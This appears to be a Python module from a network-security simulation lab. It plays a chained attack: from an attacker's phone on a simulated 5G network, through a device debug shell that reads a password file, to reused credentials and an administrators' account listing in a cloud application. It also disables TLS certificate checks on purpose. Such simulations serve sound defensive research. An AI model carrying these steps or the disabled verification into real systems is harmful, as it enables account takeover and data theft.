"""The attack that one weakness in each layer opens: from a device to everybody's data in the cloud.

The attacker has another UE on the network, and nothing else. A device, whose owner uses one
password for it and for the cloud application, is behind another UE. Everything is recorded; how
far it came is read from the recording (``attack_reading.py``), by nothing else.
"""

from __future__ import annotations

import json
import ssl
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from makmal.bench.embedded_plan import embedded_plan, embedded_subscriptions
from makmal.bench.embedded_targets import EMBEDDED_TARGETS
from makmal.cloud import Application
from makmal.cloud.accounts import ADMINISTRATOR
from makmal.device import Device
from makmal.laboratory.stages import WEAKNESSES
from makmal.network import http1_streams as http1
from makmal.network.frame_recorder import FrameRecorder
from makmal.network.gnb import Gnb
from makmal.network.http1_streams import Http1Client
from makmal.network.packet_connector import PacketConnector, host_connector, session_connector
from makmal.network.plan import NetworkPlan
from makmal.network.recorded_streams import StreamTap
from makmal.network.reference_network import ReferenceNetwork
from makmal.network.simulated_world import SimulatedWorld, simulate
from makmal.network.subscription import Subscription
from makmal.network.ue import Ue
from makmal.network.upf.address_translation import AddressTranslation
from makmal.network.world import UnreachableError
from makmal.security.laboratory_authority import Authority
from makmal.trace.frame import Endpoint

CLOUD = Endpoint("198.51.100.10", 443)
DEBUG_PORT = 23
# What the owner of the device chose, for both.
OWNER, PASSWORD = "owner", "Malacca-1511-strait"
_SECONDS = 3.0
# The steps, as the trace has them.
REACH = "the attacker's UE calls the debug port of the device, through the network"
LOOK = "the attacker asks the shell there for secrets"
LOG_IN = "the attacker logs in to the cloud application as the owner of the device"
READ = "the attacker asks for what is for administrators: the accounts of everybody"
PREPARING = "preparation: device, owner and attacker begin"
STEPS = (REACH, LOOK, LOG_IN, READ)
LAYERS = {REACH: "UPF", LOOK: "device", LOG_IN: "application", READ: "application"}


@dataclass(frozen=True, slots=True)
class Mended:
    """Which of the weaknesses are mended, by product class."""

    classes: frozenset[str] = frozenset()

    def policy(self, product_class: str) -> Any:
        """The policy of a product: with its weakness, or sound."""
        target = EMBEDDED_TARGETS[product_class]
        if product_class in self.classes:
            return target.sound
        faults = {each.name: each for each in target.faults}
        return faults[WEAKNESSES[product_class]].apply(target.sound)


def record_attack(mended: Mended, path: Path) -> None:
    """Play the attack in the simulated world, into a capture file. Raises OSError."""
    with path.open("wb") as stream:
        recorder = FrameRecorder(stream, "An attack recorded by Makmal")

        async def play() -> None:
            await _Attack(mended, recorder).run()

        simulate(play())


class _Attack:
    def __init__(self, mended: Mended, recorder: FrameRecorder) -> None:
        self.recorder, self.mended = recorder, mended
        self.world = SimulatedWorld(recorder, seed="attack")
        self.plan: NetworkPlan = embedded_plan()
        self.subscriptions = embedded_subscriptions(self.plan, 2)
        self.n6 = AddressTranslation(self.world, self.plan.address("UPF"))
        self.network = ReferenceNetwork(
            self.world,
            self.plan,
            self.subscriptions,
            mended.policy("UPF"),
            data_network=self.n6,
        )

    async def run(self) -> None:
        """From nothing to the end of the attack."""
        await self.network.start(warm=True)
        self._mark(PREPARING)
        gnb = Gnb(self.world, self.plan)
        await gnb.set_up(self.plan.n2())
        theirs, mine = [await self._connected(gnb, each) for each in self.subscriptions]
        authority = Authority()
        device = Device(
            theirs,
            theirs.address,
            Ed25519PrivateKey.generate().public_key(),
            authority,
            self.mended.policy("device"),
            authority,
            self._now,
        )
        device.set_up(PASSWORD)
        application = Application(
            host_connector(self.world, self.n6, CLOUD.address),
            CLOUD,
            self.mended.policy("application"),
            authority,
            now=self._now,
        )
        for name, password in ((OWNER, PASSWORD), ("alice", "correct horse 1")):
            application.accounts.create(name, password)
        application.accounts.create("carol", "admin of sensors 3", ADMINISTRATOR)
        await device.start()
        await application.start()
        tap = StreamTap(mine, self.recorder, lambda: self.world.now_ns)
        try:
            told = await self._password_of(tap, Endpoint(theirs.address, DEBUG_PORT))
            if told is not None:
                await self._cloud(tap, told)
        finally:
            tap.close()
            await device.stop()
            application.stop()
            gnb.close()
            await self.network.stop()
            await self.world.close()
        if self.world.failures:
            raise self.world.failures[0]

    def _now(self) -> float:
        return self.world.now_ns / 1_000_000_000

    def _mark(self, step: str) -> None:
        self.recorder.step(self.world.now_ns, step)

    async def _connected(self, gnb: Gnb, subscription: Subscription) -> PacketConnector:
        """A UE with a PDU session, and what opens streams through it."""
        ue = Ue(self.world, self.plan, subscription, cell=gnb)
        await ue.register()
        session = await ue.establish_session()
        return session_connector(ue, session)

    async def _password_of(self, tap: StreamTap, device: Endpoint) -> str | None:
        self._mark(REACH)
        try:
            stream = await tap.open(device, _SECONDS)
        except UnreachableError:
            return None
        self._mark(LOOK)
        await stream.read()
        await stream.write(b"cat /etc/passwords\r\n")
        answer = await stream.read()
        stream.close()
        _, found, rest = answer.partition(b"owner password: ")
        return rest.split(b"\r")[0].decode("utf-8", "replace") if found else None

    async def _cloud(self, tap: StreamTap, password: str) -> None:
        self._mark(LOG_IN)
        with suppress(UnreachableError):
            stream = await tap.open_tls(CLOUD, _SECONDS, _anybody(), CLOUD.address)
            client = Http1Client(stream)
            body = json.dumps({"name": OWNER, "password": password}).encode()
            content = ("Content-Type", "application/json")
            answer = await client.exchange(
                http1.request("POST", "/v1/sessions", CLOUD.address, body, content), _SECONDS
            )
            if answer.status != 201:
                return
            token = answer.json().value["token"]
            self._mark(READ)
            bearer = ("Authorization", f"Bearer {token}")
            await client.exchange(
                http1.request("GET", "/v1/administration/accounts", CLOUD.address, b"", bearer),
                _SECONDS,
            )
            client.close()


def _anybody() -> ssl.SSLContext:
    """An attacker does not mind whose certificate it is."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context
